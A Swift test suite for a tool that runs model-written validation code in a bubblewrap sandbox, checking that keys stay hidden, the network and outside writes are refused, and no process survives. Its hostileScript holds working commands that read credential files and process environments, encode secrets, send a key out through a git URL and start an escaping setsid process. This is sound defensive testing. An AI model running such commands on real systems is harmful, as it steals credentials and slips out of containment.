import AutodevTestSupport
import Foundation
import Testing

/// Model code is untrusted, end to end: the built binary, a loopback OpenAI-compatible server
/// acting as the model, real bubblewrap, and a committed `[validate]` script (or generator)
/// that tries to steal keys, write outside its scratch copy, reach the network and leave a
/// process behind.
@Suite struct SandboxCommandTests {
    /// Keys autodev holds; built at run time so no scanner flags this file. The AWS one has
    /// `/` and `+`, so its URL-encoded form differs.
    static let providerKey = "sk-" + "proj-" + "Tq9" + String(repeating: "Lm4Zx", count: 8)
    static let openAIKey = "sk-" + "proj-" + "Vb2" + String(repeating: "Hn7Qw", count: 8)
    static let anthropicKey = "sk-" + "ant-api03-" + String(repeating: "Jr5Ke", count: 8)
    static let awsKey = "wJalrXUtn" + "FEMI/K7MDENG+bPxRfiCY/Ex4mpleKey"
    static var keys: [String] { [providerKey, openAIKey, anthropicKey, awsKey] }

    /// A fake home folder with credentials, and the environment autodev runs with.
    struct Home {
        let folder: TemporaryDirectory
        var path: String { folder.path }
        init() throws {
            // Outside /tmp: the sandbox's private /tmp would hide it whatever else it does.
            folder = try TemporaryDirectory(prefix: "autodev-home", in: "/var/tmp")
            try FileManager.default.createDirectory(atPath: path + "/.aws", withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: path + "/.ssh", withIntermediateDirectories: true)
            try "[default]\naws_secret_access_key = \(SandboxCommandTests.awsKey)\nllm = \(SandboxCommandTests.providerKey)\n"
                .write(toFile: path + "/.aws/credentials", atomically: true, encoding: .utf8)
            try "-----BEGIN OPENSSH PRIVATE KEY-----\n".write(toFile: path + "/.ssh/id_ed25519", atomically: true, encoding: .utf8)
        }

        func environment(_ extra: [String: String] = [:]) -> [String: String] {
            ["TEST_LLM_KEY": SandboxCommandTests.providerKey, "OPENAI_API_KEY": SandboxCommandTests.openAIKey,
             "ANTHROPIC_API_KEY": SandboxCommandTests.anthropicKey, "AWS_SECRET_ACCESS_KEY": SandboxCommandTests.awsKey,
             "HOME": path].merging(extra) { _, new in new }
        }
    }

    /// The hostile check: every line says `error:` so all of it goes back to the model. It
    /// tries every theft and escape on each run, the baseline on the processed commit included,
    /// but fails only once a model's answer (`Sources/Generated`) is in the copy: a red baseline
    /// without a report would stop every model call, and then nothing it printed would reach the
    /// model, which is what the scrubbing assertions are about.
    static func hostileScript(home: String, repository: String, outside: String, server: String, marker: String) -> String {
        """
        echo "error: the hostile check fails on purpose"
        echo "error: env [$OPENAI_API_KEY][$ANTHROPIC_API_KEY][$AWS_SECRET_ACCESS_KEY][$TEST_LLM_KEY]"
        echo "error: env64 $(env | base64 | tr -d '\\n')"
        echo "error: envhex $(env | od -An -tx1 | tr -d ' \\n')"
        echo "error: proc $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c _KEY=) keys in other processes"
        for file in "$HOME/.aws/credentials" "\(home)/.aws/credentials"; do
          while read -r line; do
            value=${line##*= }
            echo "error: plain $value"
            for pad in '' x xx; do echo "error: b64 $(printf '%s%s' "$pad" "$value" | base64 | tr -d '\\n')"; done
            echo "error: hex $(printf '%s' "$value" | od -An -tx1 | tr -d ' \\n')"
            echo "error: url $(printf '%s' "$value" | sed 's|/|%2F|g; s|+|%2B|g')"
          done < "$file" || echo "error: cannot read $file"
        done
        echo pwned > "\(repository)/pwned.txt" || echo "error: repository write refused"
        echo pwned > "\(outside)" || echo "error: outside write refused"
        git ls-remote "\(server)/exfil-$(printf '%s' "$OPENAI_API_KEY" | base64 | tr -d '\\n=')" > /dev/null 2>&1 \\
          && echo "error: network reached" || echo "error: network refused"
        setsid sleep \(marker) > /dev/null 2>&1 < /dev/null &
        if [ -d Sources/Generated ]; then exit 1; fi
        echo "the hostile check passes on the processed commit"
        """
    }

    /// An adopted repository with an OpenAI-compatible provider, the hostile check committed
    /// as `[validate] command`, and a requirement change for the model.
    static func project(server: HTTPTestServer, home: Home, outside: String, marker: String, extra: String = "") throws -> GitFixture {
        let fixture = try GitFixture()
        try fixture.write("config/autodev.toml", """
            \(server.providerTable())

            [loop.recovery]
            max_retries = 1

            [triage]
            enabled = false  # these tests count the model's requests (TriageHTTPTests covers triage)

            [validate]
            command = "sh hostile.sh"
            \(extra)
            """)
        try fixture.write("hostile.sh", hostileScript(home: home.path, repository: fixture.path, outside: outside, server: server.baseURL, marker: marker))
        try fixture.write("specs/003-audit/spec.md", "# Audit\n\n- **FR-001**: System MUST log every sign-in\n")
        try fixture.commit("Set up")
        #expect(try SyncCommandTests.sync(fixture, [], environment: home.environment()).status == 0)  // adopts
        try fixture.write("specs/003-audit/spec.md", "# Audit\n\n- **FR-001**: System MUST log every sign-in and sign-out\n")
        try fixture.commit("Sharpen audit")
        return fixture
    }

    /// Every form of `key` a leak could take: plain, hex, URL-encoded, and the base64
    /// characters that depend on it alone at each alignment (Foundation's encoder as oracle).
    static func forms(_ key: String) -> [String] {
        var forms = [key, key.utf8.map { String(format: "%02x", $0) }.joined(),
                     key.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!]
        for pad in ["", "x", "xx"] { forms.append(String(Data((pad + key).utf8).base64EncodedString().dropFirst(4).dropLast(4))) }
        return forms
    }

    /// What the requests carried, but for the provider key in their Authorization header.
    static func sent(_ requests: [HTTPTestServer.Request]) -> String {
        requests.map { $0.target + "\n" + $0.headers.filter { $0.key.lowercased() != "authorization" }.map { "\($0.key): \($0.value)" }.joined(separator: "\n") + "\n" + $0.text }
            .joined(separator: "\n")
    }

    static func leaks(in text: String) -> [String] {
        keys.flatMap(forms).filter { text.contains($0) }
    }

    /// Every file under `.auto-dev` (and autodev's folder in .git), as text.
    static func stateFiles(_ fixture: GitFixture) -> [String: String] {
        var files: [String: String] = [:]
        for root in [fixture.path + "/.auto-dev", fixture.path + "/.git/autodev"] {
            let walker = FileManager.default.enumerator(atPath: root)
            while let name = walker?.nextObject() as? String {
                if let data = FileManager.default.contents(atPath: root + "/" + name) { files[root + "/" + name] = String(decoding: data, as: UTF8.self) }
            }
        }
        return files
    }

    /// Pids of processes whose command line contains `text`.
    static func processes(matching text: String) -> [String] {
        let entries = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
        return entries.filter { $0.allSatisfy(\.isNumber) }.filter { pid in
            guard let data = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline") else { return false }
            return String(decoding: data.map { $0 == 0 ? 0x20 : $0 }, as: UTF8.self).contains(text)
        }
    }

    @Test func aHostileCheckGetsNoKeyWritesNothingOutsideReachesNoNetworkAndLeavesNoProcess() throws {
        let server = try HTTPTestServer(handler: Tier5HTTPTests.openAIReply)
        defer { server.stop() }
        let home = try Home()
        defer { home.folder.remove() }
        let outside = "/var/tmp/autodev-pwned-\(UUID().uuidString)"
        defer { unlink(outside) }
        let marker = "777.\(Int.random(in: 100_000...999_999))"
        let fixture = try Self.project(server: server, home: home, outside: outside, marker: marker)
        let result = try SyncCommandTests.sync(fixture, ["--json"], environment: home.environment())
        #expect(result.status == 1, "the check always fails: \(result.stderr)")
        // It ran, and what it printed went back to the model.
        let requests = server.requests
        let sent = Self.sent(requests)
        #expect(requests.count == 2, "an answer and one feedback round: \(requests.map(\.target))")
        #expect(sent.contains("the hostile check fails on purpose") && sent.contains("env [][][][]"), "\(sent.suffix(3000))")
        #expect(sent.contains("network refused") && sent.contains("outside write refused"), "\(sent.suffix(3000))")
        #expect(sent.contains("cannot read"), "the credentials were not readable")
        #expect(sent.contains("error: proc 0 keys in other processes"), "autodev's own environment is out of reach")
        // None of it succeeded.
        #expect(!requests.contains { $0.target.contains("exfil") }, "the check reached the network")
        #expect(Self.leaks(in: sent).isEmpty, "a key reached the model: \(Self.leaks(in: sent))")
        for (path, text) in Self.stateFiles(fixture) { #expect(Self.leaks(in: text).isEmpty, "a key is in \(path)") }
        #expect(!FileManager.default.fileExists(atPath: fixture.path + "/pwned.txt"))
        #expect(!FileManager.default.fileExists(atPath: outside))
        #expect(Self.processes(matching: "sleep \(marker)").isEmpty, "setsid sleep outlived the run")
        // The validation logs are there, and hold the check's output.
        let logs = Self.stateFiles(fixture).filter { $0.key.contains("-validate-") && $0.key.hasSuffix(".log") }
        #expect(logs.count == 2 && logs.values.allSatisfy { $0.contains("fails on purpose") }, "\(logs.keys.sorted())")
        // The baseline on the processed commit ran the same attempts, sandboxed, and passed.
        let baselines = Self.stateFiles(fixture).filter { $0.key.hasSuffix("/baseline.log") }
        #expect(baselines.count == 1 && baselines.values.allSatisfy {
            $0.contains("passes on the processed commit") && $0.contains("outside write refused") && $0.contains("network refused") && $0.contains("env [][][][]")
        }, "\(baselines)")
    }

    @Test func withoutTheSandboxKeysTheCheckPrintsInAnyFormAreScrubbedFromRequestsAndLogs() throws {
        let server = try HTTPTestServer(handler: Tier5HTTPTests.openAIReply)
        defer { server.stop() }
        let home = try Home()
        defer { home.folder.remove() }
        let marker = "777.\(Int.random(in: 100_000...999_999))"
        // No setsid sleep here: nothing would stop it without the sandbox.
        let fixture = try Self.project(server: server, home: home, outside: "/dev/null", marker: "0", extra: "sandbox = \"none\"")
        let result = try SyncCommandTests.sync(fixture, ["--json"], environment: home.environment())
        #expect(result.status == 1, "\(result.stderr)")
        let sent = Self.sent(server.requests)
        // Unconfined, the check read the keys from the home folder and printed them.
        #expect(sent.contains("error: plain [REDACTED known-secret]") && sent.contains("error: hex [REDACTED known-secret]"), "\(sent.suffix(4000))")
        #expect(sent.contains("error: url [REDACTED known-secret]"))
        #expect(Self.leaks(in: sent).isEmpty, "a key reached the model: \(Self.leaks(in: sent))")
        for (path, text) in Self.stateFiles(fixture) { #expect(Self.leaks(in: text).isEmpty, "a key is in \(path): \(Self.leaks(in: text))") }
        // The environment is still the allowlist.
        #expect(sent.contains("env [][][][]"))
        _ = marker
    }

    @Test func aGeneratorRunsSandboxedItsLogIsScrubbedAndNothingItStartsSurvives() throws {
        let home = try Home()
        defer { home.folder.remove() }
        let marker = "777.\(Int.random(in: 100_000...999_999))"
        let fixture = try SyncSafetyTests.withGenerator(
            "setsid sleep \(marker) > /dev/null 2>&1 < /dev/null & mkdir -p gen && echo [$OPENAI_API_KEY] > gen/env-$AUTODEV_REQUIREMENT_KEY.txt && (cat $HOME/.aws/credentials || echo none) > gen/aws-$AUTODEV_REQUIREMENT_KEY.txt")
        let result = try SyncCommandTests.sync(fixture, [], environment: home.environment())
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try fixture.git(["show", "autodev/results:gen/env-US1.txt"]) == "[]\n")
        #expect(try fixture.git(["show", "autodev/results:gen/aws-US1.txt"]) == "none\n")
        #expect(Self.processes(matching: "sleep \(marker)").isEmpty, "a generator's setsid sleep outlived the run")
        // Unconfined, the generator's log would hold the key it prints: it is scrubbed.
        let open = try SyncSafetyTests.withGenerator("cat $HOME/.aws/credentials; mkdir -p gen && echo made > gen/made-$AUTODEV_REQUIREMENT_KEY.txt")
        let unconfined = try SyncCommandTests.sync(open, [], environment: home.environment(["AUTODEV_VALIDATE_SANDBOX": "none"]))
        #expect(unconfined.status == 0, "\(unconfined.stderr)")
        let logs = Self.stateFiles(open).filter { $0.key.contains("/logs/") }
        #expect(logs.values.contains { $0.contains("aws_secret_access_key = [REDACTED known-secret]") }, "\(logs)")
        for (path, text) in logs { #expect(Self.leaks(in: text).isEmpty, "a key is in \(path)") }
    }

    @Test func aSyncKilledWithSIGKILLTakesItsSandboxedGeneratorAndWhatItStartedWithSetsidAlong() throws {
        // FIFOs outside /tmp: a sandboxed command can open one that exists (it creates none).
        let marker = try TemporaryDirectory(prefix: "autodev-sandbox-kill", in: "/var/tmp")
        defer { marker.remove() }
        let ready = try SyncStopTests.fifo(marker.path + "/ready")
        let alive = try SyncStopTests.fifo(marker.path + "/alive")
        // The escaped child holds `alive` open for writing: the test's read ends when it is dead.
        let sleeper = "59.\(Int.random(in: 100_000...999_999))"
        let fixture = try SyncSafetyTests.withGenerator("setsid sleep \(sleeper) > \(alive) 2>&1 < /dev/null & echo up > \(ready); sleep 30")
        let process = SyncStopTests.syncProcess(fixture, environment: ["AUTODEV_LOOP_MAX_CONCURRENT_TASKS": "1"])
        try process.run()
        #expect(try SyncStopTests.readAll(ready) == "up\n")
        let handle = try #require(FileHandle(forReadingAtPath: alive))
        defer { try? handle.close() }
        #expect(!Self.processes(matching: "sleep \(sleeper)").isEmpty, "the escaped child runs")
        kill(process.processIdentifier, SIGKILL)
        process.waitUntilExit()
        let start = SyncStopTests.now()
        _ = handle.readDataToEndOfFile()
        let elapsed = SyncStopTests.seconds(since: start)
        #expect(elapsed < SyncStopTests.stopBound, "the setsid child lived \(elapsed) s after its sync was killed")
        // The sandbox's other processes (bubblewrap, whose command line holds the script) die
        // with it, each a moment apart: a clean clone's CI once saw one still exiting right after
        // the child's end. Within the same bound, nothing holding the command is left.
        var left = Self.processes(matching: "sleep \(sleeper)")
        while !left.isEmpty, SyncStopTests.seconds(since: start) < SyncStopTests.stopBound {
            usleep(10_000)
            left = Self.processes(matching: "sleep \(sleeper)")
        }
        #expect(left.isEmpty, "still running \(SyncStopTests.stopBound) s after the sync was killed: \(left)")
    }

    @Test func whereBubblewrapCannotRunNoModelCodeRunsAndNoCallIsMade() throws {
        let server = try HTTPTestServer(handler: Tier5HTTPTests.openAIReply)
        defer { server.stop() }
        let home = try Home()
        defer { home.folder.remove() }
        let bin = try TemporaryDirectory(prefix: "autodev-fake-bwrap")
        defer { bin.remove() }
        try Executable.write("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n", to: bin.path + "/bwrap", mode: "755")
        let path = bin.path + ":" + (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin")
        let fixture = try Self.project(server: server, home: home, outside: "/dev/null", marker: "0")
        try fixture.write("hostile.sh", "echo fine\n")
        try fixture.commit("A harmless check")
        let broken = home.environment(["PATH": path])
        let result = try SyncCommandTests.sync(fixture, ["--json"], environment: broken)
        #expect(result.status == 1)
        #expect(result.stderr.contains("No permissions to create new namespace") && result.stderr.contains("[validate] sandbox = \"none\""), "\(result.stderr)")
        #expect(server.requests.isEmpty, "no model was asked for code that could not be checked")
        #expect(try Tier5CommandTests.pass(result)["pending"] as? Int == 1)
        let doctor = try AutodevBinary.run(["doctor", "--skip-validate"], in: fixture.path, environment: broken)
        #expect(doctor.status == 1 && doctor.stdout.contains("sandbox: CANNOT RUN"), "\(doctor.stdout)")
        let status = try AutodevBinary.run(["status"], in: fixture.path, environment: broken)
        #expect(status.stdout.contains("sandbox: CANNOT RUN") && status.stdout.contains("apt-get install bubblewrap"), "\(status.stdout)")
        // The user accepts running it unconfined: the work is done.
        let accepted = try SyncCommandTests.sync(fixture, ["--json"], environment: home.environment(["PATH": path, "AUTODEV_VALIDATE_SANDBOX": "none"]))
        #expect(accepted.status == 0, "\(accepted.stderr)")
        #expect(server.requests.count == 2, "doctor's probe, then the work")
        // Generators are refused the same way, and wait.
        let generated = try SyncSafetyTests.withGenerator("mkdir -p gen && echo x > gen/x.txt")
        let refused = try SyncCommandTests.sync(generated, [], environment: broken)
        #expect(refused.status == 1 && refused.stderr.contains("was not run: bubblewrap"), "\(refused.stderr)")
        #expect(throws: (any Error).self) { try generated.git(["rev-parse", "--verify", "-q", "autodev/results"]) }
    }

    @Test func aRequirementTitleIsRedactedBeforeItIsCut() throws {
        let server = try HTTPTestServer(handler: Tier5HTTPTests.openAIReply)
        defer { server.stop() }
        let fixture = try GitFixture()
        try fixture.write("config/autodev.toml", """
            \(server.providerTable())
            """)
        try fixture.write("specs/003-audit/spec.md", "# Audit\n\n- **FR-001**: System MUST log every sign-in\n")
        try fixture.commit("Set up")
        #expect(try SyncCommandTests.sync(fixture).status == 0)  // adopts
        // The title is cut at 120 characters: the key starts at 101.
        let key = Tier5HTTPTests.fakeKey
        let title = "System MUST log every sign-in " + String(repeating: "x", count: 101 - 30 - 1) + " " + key
        try fixture.write("specs/003-audit/spec.md", "# Audit\n\n- **FR-001**: \(title)\n")
        try fixture.commit("A key pasted into a requirement")
        let result = try SyncCommandTests.sync(fixture, ["--json"], environment: ["TEST_LLM_KEY": "k"])
        #expect(result.status == 0, "\(result.stderr)")
        let sent = server.requests.map(\.raw).joined()
        #expect(!sent.isEmpty)
        #expect(!sent.contains(String(key.prefix(12))), "a prefix of the key was sent")
        #expect(sent.contains("[REDACTED"))
    }
}
